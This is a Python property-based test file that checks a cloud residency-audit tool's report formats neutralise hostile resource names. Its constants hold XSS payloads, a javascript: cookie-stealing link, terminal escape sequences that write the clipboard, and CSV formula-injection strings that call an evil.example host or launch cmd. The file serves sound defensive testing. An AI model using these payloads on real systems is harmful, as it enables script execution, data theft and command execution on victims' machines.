"""Names and tags are attacker-controlled: every output format keeps them from changing what the reader sees.

A property-based test renders one scan, whose resource names, ids, tags, gap errors
and notes come from Hypothesis, in every format, and checks each against its own
parser: Markdown (CommonMark + GFM tables) parses to the same structure as the same
scan with plain names, and each cell reads back as the name; JUnit XML parses; CSV
cells cannot start a formula; terminal output holds no control character; SARIF
message text holds no embedded link; the HTML report gains no element. The issue's
reproductions are pinned as explicit examples.
"""

from __future__ import annotations

import csv
import datetime as _dt
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from residency_audit.core import finish
from residency_audit.engine import load_rules
from residency_audit.geography import default_catalog
from residency_audit.model import Gap, Location, Owner, OwnerNode, Resource, Scan, ScanRequest, ScanResult
from residency_audit.outputs import jsonout, junit, sarif, table
from residency_audit.outputs import markdown as scan_markdown
from residency_audit.reporting import Report, csvout, diff, html
from residency_audit.reporting import markdown as report_markdown
from residency_audit.safetext import csv_cell, md_code, md_text, sarif_text, terminal, xml

from .hypothesis_support import examples

# The reproductions, verbatim where they fit.
MARKDOWN_HEADING = "x\r\r## :white_check_mark: **no failing findings**\r\r<!--"
HTML_TAGS = "<script>alert(1)</script><img src=x onerror=alert(1)>"
JS_LINK = "[click me](javascript:alert(document.cookie))"
TERMINAL = "web\x1b[2J\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[32mALL CLEAR\x1b[0m"
FORMULAS = (
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
HOSTILE = [
    MARKDOWN_HEADING,
    HTML_TAGS,
    JS_LINK,
    TERMINAL,
    *FORMULAS,
    "a|b\nc`d\\",
    "\u202eevil\u202c",
    "\x00\ud800\ufffe",
]

_MD = MarkdownIt("commonmark").enable("table")
_RULES = load_rules()
_CATALOG = default_catalog()

names = st.one_of(st.sampled_from(HOSTILE), st.text(min_size=1, max_size=40))
tag_maps = st.dictionaries(st.text(max_size=10), st.one_of(st.sampled_from(HOSTILE), st.text(max_size=20)), max_size=3)


def _scan(name: str, rid: str, tags: dict[str, str], text: str) -> ScanResult:
    owner = Owner("account", "123456789012", name, (OwnerNode("organization", "o-1", text),))
    resources = [
        Resource("aws", "s3.bucket", f"arn:aws:s3:::{rid}", name, owner, [Location("us-east-1")], tags),
        Resource("aws", "ec2.instance", f"i-{rid}", text, owner, [Location("eu-west-2", "replica")], dict(tags)),
        Resource("aws", "rds.instance", "plain", "plain", owner, [Location("eu-central-1")]),
    ]
    scan = Scan(ScanRequest("aws", scopes=(name,), options={"fail_on": "low"}))
    scan.gaps.append(Gap("aws", text, "eu-west-1", "ec2", f"AccessDenied: {name}", "AccessDenied"))
    scan.notes.append(f"note about {text}")
    result = finish(scan, resources, _RULES, _CATALOG)
    result.findings[0].suppressed_by = text  # a suppressed row, in the tables that list them
    return result


def _report(result: ScanResult) -> Report:
    return Report(
        generated_at=_dt.datetime(2026, 12, 1, tzinfo=_dt.UTC),
        store="sqlite:///x.db",
        target="0123456789abcdef",
        target_label=f"aws scopes={result.scan.request.scopes[0]}",
        other_targets={},
        history=[],
        current=result,
        baseline=None,
        newer_incomplete=[],
        diff=diff(result, None, []),
    )


# --------------------------------------------------------------------------- Markdown


def _structure(text: str) -> tuple[list[str], list[list[list[str]]]]:
    """Block and inline markup tokens (text excluded: it differs), and every table's cells as plain text.

    Markup from data (a heading, HTML, a link, emphasis, a code span) shows up as an extra token.
    """
    tokens = _MD.parse(text)
    kinds = [t.type for t in tokens if t.type != "inline"]
    kinds += [c.type for t in tokens for c in t.children or () if c.type not in ("text", "softbreak")]
    tables: list[list[list[str]]] = []
    row: list[str] = []
    for t in tokens:
        if t.type == "table_open":
            tables.append([])
        elif t.type == "tr_open":
            row = []
        elif t.type == "tr_close":
            tables[-1].append(row)
        elif t.type == "inline" and tables and row is not None:
            row.append(_plain(t))
    return kinds, tables


def _plain(t: Any) -> str:
    return "".join(c.content for c in t.children or ())


def _cells_of(text: str) -> set[str]:
    return {cell for table_ in _structure(text)[1] for r in table_ for cell in r}


def _same_markdown(hostile: str, plain: str, *shown: str) -> None:
    assert _structure(hostile)[0] == _structure(plain)[0]
    h_tables, p_tables = _structure(hostile)[1], _structure(plain)[1]
    assert [[len(r) for r in tb] for tb in h_tables] == [[len(r) for r in tb] for tb in p_tables]
    cells = _cells_of(hostile)
    for value in shown:  # each name reads back, character for character (controls shown as escapes)
        assert terminal(value).strip() in {c.strip() for c in cells}, (value, cells)


# --------------------------------------------------------------------------- the property


_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def _no_controls(text: str) -> None:
    bad = [c for c in text if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp") and c != "\u00ad"]
    assert not bad, bad[:5]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [k for k, _ in attrs]


def _elements(text: str) -> tuple[list[str], list[str]]:
    p = _Elements()
    p.feed(text)
    return p.tags, sorted(set(p.attrs))


@settings(max_examples=examples(60), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=names, rid=names, tags=tag_maps, text=names)
@example(name=MARKDOWN_HEADING, rid="bucket", tags={"Name": HTML_TAGS}, text=JS_LINK)
@example(name=TERMINAL, rid=TERMINAL, tags={}, text=TERMINAL)
@example(name=FORMULAS[0], rid=FORMULAS[1], tags={"x": FORMULAS[2]}, text=FORMULAS[3])
def test_every_format_keeps_names_inert(name: str, rid: str, tags: dict[str, str], text: str) -> None:
    hostile = _scan(name, rid, tags, text)
    plain = _scan("name", "rid", {"k": "v"}, "text")

    # Markdown: the scan summary and the report, the same structure as with plain names.
    _same_markdown(scan_markdown.render(hostile), scan_markdown.render(plain), f"arn:aws:s3:::{rid}", text)
    _same_markdown(report_markdown.render(_report(hostile)), report_markdown.render(_report(plain)), name, text)

    # JUnit XML parses, and holds the names (forbidden characters made visible).
    root = ET.fromstring(junit.render(hostile).encode("utf-8"))
    cases = {c.get("name") for c in root.iter("testcase")}
    assert xml(f"arn:aws:s3:::{rid}") in cases and xml(f"i-{rid}") in cases

    # CSV: every cell is text to a spreadsheet.
    rows = list(csv.reader(io.StringIO(csvout.render(_report(hostile)))))
    assert len(rows) == 1 + len(hostile.findings)
    for row in rows:
        assert len(row) == len(rows[0])
        for cell in row:
            assert not cell.lstrip(" ")[:1] or cell.lstrip(" ")[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", cell
            _no_controls(cell)

    # Terminal: no control character from data, anywhere in the rendered tables.
    _no_controls(table.render(hostile))

    # SARIF: a message cannot hold an embedded link ([text](id)); JSON escapes the rest.
    doc = json.loads(sarif.render(hostile))
    for res in doc["runs"][0]["results"]:
        assert not re.search(r"(?<!\\)\[[^\]]*(?<!\\)\]\(", res["message"]["text"]), res["message"]["text"]
    json.loads(jsonout.render(hostile))
    # the JSON written to a file item by item is the same text, whatever the names hold
    streamed = io.StringIO()
    jsonout.write(hostile, streamed)
    assert streamed.getvalue() == jsonout.render(hostile)

    # HTML: autoescaped; the hostile report has exactly the elements and attributes of the plain one.
    assert _elements(html.render(_report(hostile))) == _elements(html.render(_report(plain)))


# --------------------------------------------------------------------------- the reproductions


def _findings_heading(text: str) -> list[str]:
    return [t.content for t in _MD.parse(text) if t.type == "inline" and t.map and "failing" in t.content]


def test_streamed_json_of_an_empty_scan_is_the_rendered_text() -> None:
    empty = finish(Scan(ScanRequest("aws")), [], load_rules(), default_catalog())
    streamed = io.StringIO()
    jsonout.write(empty, streamed)
    assert streamed.getvalue() == jsonout.render(empty)
    assert json.loads(streamed.getvalue())["resources"] == []


def test_repro_markdown_cannot_claim_all_clear_or_hide_the_rest() -> None:
    result = _scan(MARKDOWN_HEADING, "b", {"Name": HTML_TAGS}, JS_LINK)
    text = scan_markdown.render(result)
    tokens = _MD.parse(text)
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    assert not any("no failing findings" in h for h in headings), headings
    raw = [t.content.strip() for t in tokens if t.type in ("html_block", "html_inline")]
    assert all(re.fullmatch(r"</?details>(<summary>[^<>]*</summary>)?", h) for h in raw), raw  # only its own
    unescaped = text.replace("\\<", "")  # an escaped '<' is a literal character
    assert "<!--" not in unescaped and "<script>" not in unescaped
    links = [c for t in tokens for c in t.children or () if c.type in ("link_open", "image")]
    assert not links, links
    # The findings and country tables are still there after the hostile row.
    assert "Resources per country" in "".join(headings) and "Coverage gaps" in "".join(headings)


def test_repro_terminal_table_and_error_line_obey_no_escape(capsys: pytest.CaptureFixture[str]) -> None:
    from residency_audit.cli import run_command
    from residency_audit.errors import UserError

    out = table.render(_scan(TERMINAL, "b", {}, TERMINAL))
    assert "\x1b" not in out and "\x07" not in out and "\\x1b[32mALL CLEAR" in out

    def fail(_: object) -> int:
        raise UserError(f"plan: resource {TERMINAL} is broken")

    assert run_command(fail, None) == 2  # type: ignore[arg-type]
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\\x1b]52;c;" in err


def test_repro_junit_with_escape_is_well_formed() -> None:
    root = ET.fromstring(junit.render(_scan(TERMINAL, TERMINAL, {}, TERMINAL)).encode())
    assert any("\\x1b[2J" in (c.get("name") or "") for c in root.iter("testcase"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_repro_csv_formulas_are_text(formula: str) -> None:
    rows = list(csv.reader(io.StringIO(csvout.render(_report(_scan(formula, "b", {}, formula))))))
    names = [r[rows[0].index("resource_name")] for r in rows[1:]]
    assert f"'{formula}" in names


# --------------------------------------------------------------------------- the escapers themselves


def test_markdown_escaper_is_shared_by_both_markdown_outputs() -> None:
    import residency_audit.outputs.markdown as a
    import residency_audit.reporting.markdown as b

    assert vars(a)["_cell"] is vars(b)["_cell"]  # one escaper (safetext), not two that disagree


@given(st.text(max_size=60))
def test_md_text_reads_back_as_itself(value: str) -> None:
    tokens = _MD.parse(f"| h |\n|---|\n| {md_text(value) or ' '} |\n")
    cells = [_plain(t) for t in tokens if t.type == "inline"]
    assert cells[-1].strip() == terminal(value).strip()


@given(st.text(max_size=60))
def test_md_code_is_one_code_span(value: str) -> None:
    tokens = _MD.parse(f"x {md_code(value)} y")
    inline = next(t for t in tokens if t.type == "inline")
    spans = [c for c in inline.children or () if c.type == "code_inline"]
    assert len(spans) == 1
    want = terminal(value)
    # CommonMark strips one space each side when both are there and the content is not all spaces.
    assert spans[0].content in (want, want.strip(" ")) or not want.strip()


@given(st.text(max_size=60))
def test_sarif_text_unescapes_to_the_message(value: str) -> None:
    assert re.sub(r"\\([\\\[\]])", r"\1", sarif_text(value)) == terminal(value)


@given(st.text(max_size=40))
def test_csv_cell_never_starts_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert not cell.lstrip(" ") or cell.lstrip(" ")[0] not in "=+-@\t\r\n"
